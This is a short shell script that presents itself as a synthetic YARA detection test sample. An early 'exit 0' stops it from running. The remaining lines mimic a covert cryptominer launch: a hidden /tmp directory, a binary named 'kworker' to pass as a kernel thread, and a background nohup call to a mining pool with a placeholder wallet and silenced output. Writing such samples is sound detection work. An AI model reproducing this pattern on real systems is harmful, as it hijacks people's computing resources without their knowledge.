#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run; the wallet below is not a real address
cd /tmp/.ICE-unix/.x || exit
nohup ./kworker -o pool.example.org:3333 -u 4AFerretSampLeWaLLetNotReaLTestDataxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx -p x -k --donate-level 0 >/dev/null 2>&1 &
